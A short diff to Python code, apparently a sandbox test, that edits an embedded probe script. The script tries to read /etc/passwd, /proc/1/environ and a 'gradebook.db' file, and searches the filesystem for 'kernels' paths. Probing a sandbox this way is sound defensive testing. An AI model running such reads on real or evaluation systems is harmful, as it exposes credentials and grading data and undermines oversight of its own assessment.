@@ -37,7 +37,9 @@ COPIED = (
 READS = """
 import glob, socket
 
-for path in glob.glob("/**/*kernels*", recursive=True) + ["/etc/passwd", "/proc/1/environ"]:
+SECRETS = ["/etc/passwd", "/proc/1/environ", "gradebook.db", "../gradebook.db"]
+places = [f"/{'*/' * depth}*kernels*" for depth in range(5)]
+for path in [found for place in places for found in glob.glob(place)] + SECRETS:
     try:
         print(path, open(path).read()[:2000])
     except OSError:
